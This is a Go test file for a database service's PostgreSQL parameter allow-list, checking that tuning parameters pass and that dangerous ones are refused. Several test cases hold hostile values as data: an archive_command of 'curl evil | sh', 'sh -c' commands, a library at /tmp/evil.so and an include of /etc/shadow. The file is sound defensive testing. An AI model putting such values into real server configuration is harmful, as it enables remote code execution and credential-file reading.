package pgparams

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/dbaas-io/dbaas/internal/testing/integration"
)

func TestCheck(t *testing.T) {
	cases := map[string]struct {
		reason  string
		version string
		params  map[string]string
		want    string // a part of the error; empty: allowed
	}{
		"None": {
			reason:  "an instance without parameters needs no list",
			version: "99",
		},
		"Tuning": {
			reason:  "memory, planner, WAL, autovacuum and logging parameters are allowed",
			version: "15",
			params:  map[string]string{"work_mem": "8MB", "random_page_cost": "1.1", "max_wal_size": "2GB", "autovacuum_naptime": "30s", "log_min_duration_statement": "250ms", "statement_timeout": "30s", "max_connections": "50"},
		},
		"MinorVersion": {
			reason:  "a version with a minor part takes its major's list",
			version: "15.4",
			params:  map[string]string{"work_mem": "8MB"},
		},
		"ArchiveCommand": {
			reason:  "archive_command runs a command as the engine's OS user",
			version: "15",
			params:  map[string]string{"archive_command": "curl evil | sh"},
			want:    `parameter "archive_command" is not in the allow-list of PostgreSQL 15`,
		},
		"RestoreCommand": {
			reason:  "restore_command runs a command",
			version: "15",
			params:  map[string]string{"restore_command": "sh -c x"},
			want:    `parameter "restore_command" is not in the allow-list`,
		},
		"SSLPassphraseCommand": {
			reason:  "ssl_passphrase_command runs a command",
			version: "15",
			params:  map[string]string{"ssl_passphrase_command": "sh -c x"},
			want:    `parameter "ssl_passphrase_command" is not in the allow-list`,
		},
		"SharedPreloadLibraries": {
			reason:  "a library loaded into the server runs its code",
			version: "15",
			params:  map[string]string{"shared_preload_libraries": "/tmp/evil.so"},
			want:    `parameter "shared_preload_libraries" is not in the allow-list`,
		},
		"SessionPreloadLibraries": {
			reason:  "session libraries too",
			version: "15",
			params:  map[string]string{"session_preload_libraries": "evil"},
			want:    `parameter "session_preload_libraries" is not in the allow-list`,
		},
		"LocalPreloadLibraries": {
			reason:  "local libraries too",
			version: "15",
			params:  map[string]string{"local_preload_libraries": "evil"},
			want:    `parameter "local_preload_libraries" is not in the allow-list`,
		},
		"JITProvider": {
			reason:  "jit_provider names a library",
			version: "15",
			params:  map[string]string{"jit_provider": "evil"},
			want:    `parameter "jit_provider" is not in the allow-list`,
		},
		"DynamicLibraryPath": {
			reason:  "dynamic_library_path chooses where libraries are loaded from",
			version: "15",
			params:  map[string]string{"dynamic_library_path": "/tmp"},
			want:    `parameter "dynamic_library_path" is not in the allow-list`,
		},
		"Port": {
			reason:  "the provider chooses the port",
			version: "15",
			params:  map[string]string{"port": "5433"},
			want:    `parameter "port" is not in the allow-list`,
		},
		"ListenAddresses": {
			reason:  "the provider chooses where the server listens",
			version: "15",
			params:  map[string]string{"listen_addresses": "*"},
			want:    `parameter "listen_addresses" is not in the allow-list`,
		},
		"LogDirectory": {
			reason:  "a file path",
			version: "15",
			params:  map[string]string{"log_directory": "/etc"},
			want:    `parameter "log_directory" is not in the allow-list`,
		},
		"WALLevel": {
			reason:  "the provider sets wal_level for replication",
			version: "15",
			params:  map[string]string{"wal_level": "minimal"},
			want:    `parameter "wal_level" is not in the allow-list`,
		},
		"SSL": {
			reason:  "TLS is the provider's",
			version: "15",
			params:  map[string]string{"ssl": "off"},
			want:    `parameter "ssl" is not in the allow-list`,
		},
		"Include": {
			reason:  "an include directive reads another file",
			version: "15",
			params:  map[string]string{"include": "/etc/shadow"},
			want:    `parameter "include" is not in the allow-list`,
		},
		"ExtensionParameter": {
			reason:  "a placeholder for an extension nobody loaded is refused",
			version: "15",
			params:  map[string]string{"auto_explain.log_min_duration": "1s"},
			want:    `parameter "auto_explain.log_min_duration" is not in the allow-list`,
		},
		"FirstRefusedNamed": {
			reason:  "with several, the message names the first refused one in name order",
			version: "15",
			params:  map[string]string{"work_mem": "8MB", "zero_damaged_pages": "on", "archive_mode": "on"},
			want:    `parameter "archive_mode" is not in the allow-list`,
		},
		"VersionWithoutList": {
			reason:  "a version nobody wrote a list for takes no parameters",
			version: "16",
			params:  map[string]string{"work_mem": "8MB"},
			want:    "PostgreSQL 16 has no allow-list of parameters",
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			err := Check(tc.version, tc.params)
			switch {
			case tc.want == "" && err != nil:
				t.Errorf("%s\nCheck(...): want allowed, got %v", tc.reason, err)
			case tc.want != "" && err == nil:
				t.Errorf("%s\nCheck(...): want refused with %q, got allowed", tc.reason, tc.want)
			case tc.want != "" && !strings.Contains(err.Error(), tc.want):
				t.Errorf("%s\nCheck(...): want %q in the error, got %v", tc.reason, tc.want, err)
			}
		})
	}
}

// TestNamesKnownToPostgreSQL15 checks every allowed name against the real
// server's list, so a typo does not pass as a parameter nobody can set.
func TestNamesKnownToPostgreSQL15(t *testing.T) {
	integration.Needs(t, "PostgreSQL 15 (make deps)")
	bin := "/usr/lib/postgresql/15/bin/postgres"
	if _, err := os.Stat(bin); err != nil {
		t.Fatalf("PostgreSQL 15 is needed: %v (apt-get install -y postgresql-15)", err)
	}
	// --describe-config skips the check that refuses root.
	out, err := exec.Command(bin, "--describe-config").Output()
	if err != nil {
		t.Fatalf("postgres --describe-config: %v", err)
	}
	known := map[string]bool{}
	for _, l := range strings.Split(string(out), "\n") {
		n, _, _ := strings.Cut(l, "\t")
		known[strings.ToLower(n)] = true
	}
	// application_name is not in the sample file, so --describe-config
	// leaves it out; it is a session default every client may set anyway.
	known["application_name"] = true
	for _, n := range Names("15") {
		if !known[n] {
			t.Errorf("allow-list of PostgreSQL 15 names %q, which PostgreSQL 15 does not know", n)
		}
	}
}

// TestCRDListMatches checks that the CRD's validation rule, which the API
// server applies before the provider sees an instance, allows exactly the
// union of the versions' lists.
func TestCRDListMatches(t *testing.T) {
	_, here, _, _ := runtime.Caller(0)
	crd, err := os.ReadFile(filepath.Join(filepath.Dir(here), "..", "..", "..", "package", "crds", "engine.dbaas.io_databaseinstances.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	rule := regexp.MustCompile(`rule: self\.all\(k, k in \[([^\]]*)\]\)`).FindSubmatch(crd)
	if rule == nil {
		t.Fatal("the CRD has no allow-list rule on spec.forProvider.parameters")
	}
	var got []string
	for _, m := range regexp.MustCompile(`'([a-z0-9_.]+)'`).FindAllSubmatch(rule[1], -1) {
		got = append(got, string(m[1]))
	}
	sort.Strings(got)
	union := map[string]bool{}
	for _, v := range Versions() {
		for _, n := range Names(v) {
			union[n] = true
		}
	}
	want := make([]string, 0, len(union))
	for n := range union {
		want = append(want, n)
	}
	sort.Strings(want)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("CRD allow-list rule differs from the lists in this package (-want +got); edit the marker on Parameters and run make generate:\n%s", diff)
	}
}
